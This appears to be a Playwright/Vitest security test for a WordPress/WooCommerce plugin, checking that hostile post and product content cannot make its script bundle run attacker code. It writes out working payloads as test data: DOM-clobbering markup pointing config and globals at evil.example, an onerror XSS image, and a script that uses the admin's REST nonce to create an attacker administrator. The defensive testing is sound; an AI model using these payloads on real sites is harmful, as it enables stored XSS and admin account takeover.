// Page content is hostile (docs/security.md): an Author's post, a Contributor's pending post that an
// administrator previews, and a product description carry, through WordPress's own kses, an
// element with every id the bundle reads and the id of every global it falls back to, plus the
// stored XSS of issue 37 (a forged #islands-vitals whose reporter is the attacker's script). No
// script of theirs runs, no request goes where they point, the islands still work, and the
// administrator's preview creates nothing.
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Page } from 'playwright-core';
import { expectHydrated } from '../harness.ts';
import { realSiteSuite, type IslandsSettings, type RealSite } from '../real-site.ts';
import { logInAsAdmin } from './helpers.ts';

const EVIL = 'https://evil.example';
/** Every id the bundle reads from the page. */
const IDS = [
  'islands-config',
  'islands-vitals',
  'islands-side-cart-line',
  'islands-report',
  'wc-checkout-js-extra',
  'eael-general-js-extra',
  'xoo-wsc-main-js-extra',
];
/** Every global the bundle falls back to (runtime/page/clobbering.test.ts holds the same list). */
const GLOBALS = [
  'wc_add_to_cart_params',
  'woocommerce_params',
  'wpApiSettings',
  'xoo_wsc_params',
  'ElementorProFrontendConfig',
  'wp',
  'wc_checkout_params',
  'wc_cart_params',
  'wc_cart_fragments_params',
  'wc_single_product_params',
  'wc_country_select_params',
  'wc_address_i18n_params',
  'wc_order_attribution',
  'wpcf7',
  'jQuery',
  'wp_has_consent',
  'islandsCaptcha',
  'localize',
  'elementorFrontendConfig',
  'elementorFrontend',
  'elementorProFrontend',
  'ssp_castos_player_1',
];

/** A module that says it ran: it marks the page and asks the site for /?hostile=… */
const attackerModule = (mark: string, body = '') =>
  `data:text/javascript,${encodeURIComponent(`document.documentElement.dataset.hostile=${JSON.stringify(mark)};fetch('/?hostile=${mark}');${body}`)}`;

/** The review's payload: with the administrator's REST nonce, an administrator account of the attacker's. */
const createAdmin = `fetch('/wp-json/wp/v2/users',{method:'POST',credentials:'same-origin',headers:{'Content-Type':'application/json','X-WP-Nonce':JSON.parse(document.querySelector('script#islands-config').textContent).nonce},body:JSON.stringify({username:'hostile-admin',password:'Hostile-pass-123!',email:'hostile@example.com',roles:['administrator']})});`;

/** What an Author (no unfiltered_html) can save: kses keeps ids and <pre> text. */
function hostileMarkup(mark: string, extra = ''): string {
  const vitals = { share: 100, variant: 'islands', page: 'post', endpoint: `${EVIL}/collect`, reporter: attackerModule(mark, extra) };
  const config = {
    ajaxUrl: `${EVIL}/admin-ajax.php`,
    wcAjaxUrl: `${EVIL}/?wc-ajax=%%endpoint%%`,
    restRoot: `${EVIL}/wp-json/`,
    nonce: 'forged',
    cartUrl: `${EVIL}/cart/`,
    popups: 'elementor',
  };
  return [
    `<pre id="islands-vitals">${JSON.stringify(vitals)}</pre>`,
    `<pre id="islands-config">${JSON.stringify(config)}</pre>`,
    // A side cart line that would run the attacker's script if it were ever put on the page.
    `<pre id="islands-side-cart-line">${JSON.stringify({ line: `<div class="xoo-wsc-product"><img src="x" onerror="document.documentElement.dataset.hostile='${mark}';fetch('/?hostile=${mark}')"></div>`, products: '<div></div>', order: 'asc', price: { decimals: 2, decimalSeparator: '.', thousandSeparator: ',' } }).replace(/</g, '\\u003C')}</pre>`,
    ...IDS.filter((id) => !['islands-vitals', 'islands-config', 'islands-side-cart-line'].includes(id)).map(
      (id) => `<pre id="${id}">var x = ${JSON.stringify({ update_order_review_nonce: 'forged', ajax_url: EVIL })};</pre>`,
    ),
    // kses keeps no `name` that reaches the window (form, img, iframe, embed and object lose it):
    // an id does, on any element.
    ...GLOBALS.map((name) => `<a id="${name}" href="${EVIL}/${name}">${name}</a>`),
  ].join('\n');
}

/** Saves a post as `role` would, through kses; returns its id. */
function postAs(site: RealSite, login: string, status: 'publish' | 'pending', content: string): number {
  return Number(
    site.php(`
    $user = get_user_by( 'login', ${JSON.stringify(login)} );
    wp_set_current_user( $user->ID );
    kses_init();
    echo wp_insert_post( array( 'post_title' => 'Contenido hostil ' . wp_generate_password( 6, false ), 'post_status' => ${JSON.stringify(status)}, 'post_author' => $user->ID, 'post_content' => wp_slash( ${JSON.stringify(content)} ) ) );`),
  );
}

interface Watch {
  /** Requests to the attacker's host, to /?hostile= or to the users' REST route. */
  strays: string[];
  dialogs: string[];
}

/** Records what the attacker's markup could make the page do; the attacker's host never answers. */
async function watchPage(page: Page): Promise<Watch> {
  const watch: Watch = { strays: [], dialogs: [] };
  await page.route(`${EVIL}/**`, (route) => (watch.strays.push(route.request().url()), route.abort()));
  page.on('request', (request) => /hostile=|\/wp\/v2\/users/.test(request.url()) && watch.strays.push(request.url()));
  page.on('dialog', (dialog) => (watch.dialogs.push(dialog.message()), void dialog.dismiss()));
  return watch;
}

/**
 * The field data's schedule ran (after the load event, when idle): it loaded the plugin's own
 * reporter, or the attacker's module, which asks for /?hostile=….
 */
const scheduleRan = (page: Page) =>
  page.waitForRequest((r) => /\/bundle\/vitals-reporter\.js(\?|$)/.test(r.url()) || r.url().includes('hostile='), { timeout: 30_000 });

const measuredAll: IslandsSettings = { mode: 'all', keep: [], vitals: 100 };

async function expectUntouched(page: Page, watch: Watch): Promise<void> {
  expect(await page.evaluate(() => document.documentElement.dataset.hostile ?? null), 'no script of the content ran').toBeNull();
  expect(watch.strays, 'no request went where the content points').toEqual([]);
  expect(watch.dialogs).toEqual([]);
  expect(await page.locator('[data-island="error"]').count(), 'no island failed').toBe(0);
}

const sideCartNames = (page: Page) => page.locator('.xoo-wsc-container .xoo-wsc-product .xoo-wsc-pname').allTextContents();

realSiteSuite('Hostile page content (docs/security.md)', (site) => {
  let authorPost = 0;
  let pendingPost = 0;
  let productPath = '';

  beforeAll(() => {
    site.php(`
      foreach ( array( 'hostile-author' => 'author', 'hostile-contributor' => 'contributor' ) as $login => $role ) {
        if ( ! get_user_by( 'login', $login ) ) {
          wp_insert_user( array( 'user_login' => $login, 'user_pass' => wp_generate_password(), 'user_email' => $login . '@example.com', 'role' => $role ) );
        }
      }`);
    // The post also shows the shop's listing markup, by the shortcode any author may use.
    authorPost = postAs(site, 'hostile-author', 'publish', `${hostileMarkup('author')}\n[products ids="${site.ids.simple_id}"]`);
    pendingPost = postAs(site, 'hostile-contributor', 'pending', hostileMarkup('contributor', createAdmin));
    // A product description, as a shop manager without unfiltered_html saves it (wp_kses_post).
    productPath = site
      .php(`
      $product = new WC_Product_Simple();
      $product->set_name( 'Producto con descripción hostil' );
      $product->set_regular_price( '7' );
      $product->set_catalog_visibility( 'hidden' );
      $product->set_description( wp_kses_post( ${JSON.stringify(hostileMarkup('product'))} ) );
      $product->save();
      echo wp_make_link_relative( get_permalink( $product->get_id() ) );`)
      .trim();
  });

  afterAll(() => {
    site.php(`
      foreach ( array( ${authorPost}, ${pendingPost} ) as $id ) { wp_delete_post( $id, true ); }
      $product = get_page_by_path( ${JSON.stringify(productPath.replace(/^\/producto\/|\/$/g, ''))}, OBJECT, 'product' );
      if ( $product ) { wp_delete_post( $product->ID, true ); }
      require_once ABSPATH . 'wp-admin/includes/user.php';
      foreach ( array( 'hostile-author', 'hostile-contributor', 'hostile-admin' ) as $login ) {
        $user = get_user_by( 'login', $login );
        if ( $user ) { wp_delete_user( $user->ID ); }
      }`);
  });

  test("kses keeps the attacker's ids and names: the test's markup reaches the page", () => {
    const saved = site.php(`echo get_post_field( 'post_content', ${pendingPost} );`);
    expect(saved).toContain('<pre id="islands-vitals">');
    expect(saved).toContain('<pre id="islands-side-cart-line">');
    expect(saved).toContain('<a id="wpcf7"');
    expect(saved).toContain('<a id="wc_add_to_cart_params"');
  });

  test("an Author's post: no script of theirs runs for a visitor, and the listing's add to cart goes to the shop", async () => {
    const page = await site.newPage({ plainVisitor: true, islandsSettings: measuredAll });
    const watch = await watchPage(page);
    const reporter = scheduleRan(page);
    await page.goto(site.url(`/?p=${authorPost}`));
    expect(await page.locator('pre#islands-vitals').count(), "the author's element is on the page").toBe(1);
    await reporter;
    await expectHydrated(page, 'div.xoo-wsc-markup');
    const added = page.waitForResponse((r) => r.url().includes('wc-ajax=add_to_cart'));
    await page.locator(`a.add_to_cart_button[data-product_id="${site.ids.simple_id}"]`).click();
    expect(new URL((await added).url()).origin).toBe(site.origin);
    await expect.poll(() => sideCartNames(page), { timeout: 10_000 }).toEqual(['Camiseta básica']);
    await expectUntouched(page, watch);
    site.expectNoConsoleErrors();
  });

  test('a product description: the product page adds to the cart, and nothing of the description runs', async () => {
    const page = await site.newPage({ plainVisitor: true, islandsSettings: measuredAll });
    const watch = await watchPage(page);
    const reporter = scheduleRan(page);
    await page.goto(site.url(productPath));
    expect(await page.locator('#tab-description pre#islands-vitals').count(), 'the description holds the element').toBe(1);
    await reporter;
    await expectHydrated(page, 'div.xoo-wsc-markup');
    await page.locator('form.cart .single_add_to_cart_button').click();
    await expect.poll(() => sideCartNames(page), { timeout: 10_000 }).toEqual(['Producto con descripción hostil']);
    await expectUntouched(page, watch);
    site.expectNoConsoleErrors();
  });

  test("a Contributor's pending post, previewed by an administrator, creates no account", async () => {
    const page = await site.newPage({ islandsSettings: measuredAll });
    await logInAsAdmin(site, page);
    const watch = await watchPage(page);
    const reporter = scheduleRan(page);
    await page.goto(site.url(`/?p=${pendingPost}&preview=true`));
    expect(await page.locator('pre#islands-vitals').count(), "the contributor's element is on the preview").toBe(1);
    // The schedule imports one reporter: once it took the plugin's, no other can follow.
    await reporter;
    await expectUntouched(page, watch);
    expect(site.php(`echo get_user_by( 'login', 'hostile-admin' ) ? 'created' : 'none';`)).toBe('none');
    site.expectNoConsoleErrors();
  });
});
